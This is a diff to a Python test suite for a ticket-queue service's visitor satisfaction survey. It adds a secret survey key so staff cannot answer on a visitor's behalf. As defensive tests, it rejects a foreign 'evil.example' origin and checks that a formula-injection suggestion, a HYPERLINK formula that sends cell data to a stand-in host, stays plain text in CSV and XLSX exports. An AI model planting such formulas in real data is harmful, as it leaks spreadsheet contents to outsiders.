@@ -30,6 +30,13 @@ admin = base.admin
 ANSWERS = {"scores": {code: 3 for code in skm.ELEMENT_CODES}}
 
 
+def keyed(ticket: dict, answer: object) -> object:
+    """The answer as the ticket's own phone page sends it: with the survey key from the
+    fragment of the address the visitor was handed (core/survey_keys.py)."""
+    key = ticket["status_url"].split("#k=")[1]
+    return {**answer, "key": key} if isinstance(answer, dict) else answer
+
+
 def served(api: Api, kiosk: str, officer: str, counter: int = 1) -> dict:
     ticket = api.issue(kiosk)
     status, called = api("POST", f"/tickets/{ticket['id']}/call", officer, json={})
@@ -44,21 +51,21 @@ def test_a_phone_rates_its_finished_ticket_once(api: Api, kiosk: str, siti: str)
     waiting = api.issue(kiosk)
     status, body = api("GET", f"/tickets/{waiting['id']}/survey")
     assert (status, body) == (200, {"finished": False, "answered": False, "open": False})
-    status, body = api("POST", f"/tickets/{waiting['id']}/survey", json=ANSWERS)
+    status, body = api("POST", f"/tickets/{waiting['id']}/survey", json=keyed(waiting, ANSWERS))
     assert status == 409 and body["error"]["code"] == "ticket_not_finished"
     assert "finished" in body["error"]["message"]
 
     ticket = served(api, kiosk, siti)
     assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True
     answer = {**ANSWERS, "suggestion": "Ruang tunggu nyaman", "profile": {"sex": "L"}}
-    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=answer)
+    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, answer))
     assert status == 201 and body == {
         "ticket": ticket["number"],
         "service": "KTP",
         "channel": "phone",
         "saved": True,
     }
-    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=ANSWERS)
+    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))
     assert status == 409 and body["error"]["code"] == "already_answered"
     assert api("GET", f"/tickets/{ticket['id']}/survey")[1] == {
         "finished": True,
@@ -86,7 +93,7 @@ def test_out_of_range_or_malformed_answers_are_400_naming_the_field(
     ticket = served(api, kiosk, siti)
     tablet = api.device("tablet-loket-1", "survey", counter=1)
     for answer, field in BAD_ANSWERS:
-        status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=answer)
+        status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, answer))
         assert status == 400 and field in body["error"]["message"], (answer, body)
         status, body = api("POST", "/counters/1/survey", tablet, json=answer)
         assert status == 400 and field in body["error"]["message"], (answer, body)
@@ -102,11 +109,38 @@ def test_unknown_tickets_and_foreign_origins_are_refused(api: Api, kiosk: str, s
     status, body = api(
         "POST",
         f"/tickets/{ticket['id']}/survey",
-        json=ANSWERS,
+        json=keyed(ticket, ANSWERS),
         headers={"Origin": "https://evil.example"},
     )
     assert status == 403, body
     assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True
+
+
+def test_the_ticket_id_staff_see_is_not_enough_to_answer_for_the_visitor(
+    api: Api, kiosk: str, siti: str
+):
+    """The officer's terminal lists tickets by id; answering also needs the survey key, which
+    only the visitor's own address (printed, on the kiosk, the phone's answer) carries."""
+    ticket = served(api, kiosk, siti)
+    assert "#k=" in ticket["status_url"]
+    # What anyone with the id can read holds no key: the ticket's view, the kiosk's QR image.
+    seen = api("GET", f"/tickets/{ticket['id']}")[1]
+    assert "#k=" not in seen["status_url"] and seen["status_url"] in ticket["status_url"]
+    key = ticket["status_url"].split("#k=")[1]
+    plain = api.client.get(f"/kiosk/qr/{ticket['id']}.svg").get_data(as_text=True)
+    with_key = api.client.get(f"/kiosk/qr/{ticket['id']}.svg?k={key}").get_data(as_text=True)
+    assert plain != with_key
+    wrong = ("A" if key[0] != "A" else "B") + key[1:]
+    assert api.client.get(f"/kiosk/qr/{ticket['id']}.svg?k={wrong}").get_data(as_text=True) == (
+        plain
+    )
+    for guess in (None, "", "x" * 16, key[:-1], wrong, 12345):
+        body = ANSWERS if guess is None else {**ANSWERS, "key": guess}
+        status, answer = api("POST", f"/tickets/{ticket['id']}/survey", siti, json=body)
+        assert status == 403 and answer["error"]["code"] == "survey_key_invalid", guess
+        assert "kode QR" in answer["error"]["message"] and "QR code" in answer["error"]["message"]
+    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True  # nothing stored
+    assert api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))[0] == 201
 
 
 def test_a_survey_tablet_rates_the_ticket_its_counter_finished_last(
@@ -125,7 +159,7 @@ def test_a_survey_tablet_rates_the_ticket_its_counter_finished_last(
     assert status == 201 and body["ticket"] == ticket["number"] and body["channel"] == "tablet"
     assert api("POST", "/counters/1/survey", tablet, json=ANSWERS)[0] == 409
     # The phone cannot rate it a second time either.
-    assert api("POST", f"/tickets/{ticket['id']}/survey", json=ANSWERS)[0] == 409
+    assert api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))[0] == 409
     # A tablet token acts on no ticket.
     nxt = api.issue(kiosk)
     assert api("POST", f"/tickets/{nxt['id']}/cancel", tablet)[0] == 403
@@ -191,7 +225,12 @@ def test_the_skm_report_counts_respondents_against_the_sample(
     ]
     for answer in scores:
         ticket = served(api, kiosk, siti)
-        assert api("POST", f"/tickets/{ticket['id']}/survey", json={"scores": answer})[0] == 201
+        assert (
+            api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, {"scores": answer}))[
+                0
+            ]
+            == 201
+        )
     served(api, kiosk, siti)  # served, not rated
     status, body = api("GET", "/skm?by=service", admin)
     assert status == 200, body
@@ -229,7 +268,7 @@ def test_a_bad_period_or_choice_is_400(api: Api, admin: str):
 
 def test_exports_open_as_csv_and_xlsx(api: Api, kiosk: str, siti: str, admin: str):
     ticket = served(api, kiosk, siti)
-    api("POST", f"/tickets/{ticket['id']}/survey", json=ANSWERS)
+    api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))
     client = api.client
     headers = {"Authorization": f"Bearer {admin}"}
     response = client.get("/api/v1/reports?by=service&format=csv", headers=headers)
@@ -302,7 +341,9 @@ def test_a_suggestion_that_looks_like_a_formula_stays_text_in_the_exports(
     formula = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klik")'
     ticket = served(api, kiosk, siti)
     status, _ = api(
-        "POST", f"/tickets/{ticket['id']}/survey", json={**ANSWERS, "suggestion": formula}
+        "POST",
+        f"/tickets/{ticket['id']}/survey",
+        json=keyed(ticket, {**ANSWERS, "suggestion": formula}),
     )
     assert status == 201
     headers = {"Authorization": f"Bearer {admin}"}
